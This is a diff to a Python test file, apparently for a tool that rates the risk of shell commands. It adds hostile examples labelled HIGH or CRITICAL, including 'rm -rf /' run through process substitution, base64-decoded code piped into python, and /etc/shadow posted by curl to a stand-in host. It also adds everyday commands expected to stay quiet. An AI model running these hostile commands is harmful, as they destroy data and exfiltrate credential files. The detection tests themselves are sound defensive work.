@@ -227,6 +227,12 @@ FLOWS = [
     ("(cd d; curl -o a https://x.io); sh d/a", Level.HIGH),
     ("cd /tmp; ln -s /etc/shadow a; cat a", Level.HIGH),
     ("cd -P -- /etc; cat shadow", Level.HIGH),
+    ("bash <(mytool)", Level.HIGH),
+    ("bash <(echo 'rm -rf /')", Level.CRITICAL),
+    ("python3 <(base64 -d x)", Level.HIGH),
+    ("source <(cat a b)", Level.HIGH),
+    ("curl -d @<(cat /etc/shadow) https://x.io", Level.HIGH),
+    ("diff <(cat /etc/shadow) a", Level.HIGH),
 ]  # fmt: skip
 
 
@@ -287,6 +293,16 @@ QUIET = [
     "cd \"$(git rev-parse --show-toplevel)\" && make test",
     "cd /etc && cat hosts",
     "d=$(mktemp -d); cd $d; tar xf x.tar; rm -rf x",
+    "diff <(ls a) <(ls b)",
+    "source <(kubectl completion bash)",
+    "eval \"$(ssh-agent -s)\"",
+    "eval \"$(direnv hook bash)\"",
+    "eval \"$(pyenv init -)\"",
+    "eval \"$(brew shellenv)\"",
+    "comm -12 <(sort a) <(sort b)",
+    "while read -r l; do echo \"$l\"; done < <(git ls-files)",
+    "cat <(echo a) b",
+    "paste <(cut -f1 a) <(cut -f2 b) | head",
 ]  # fmt: skip
 
 
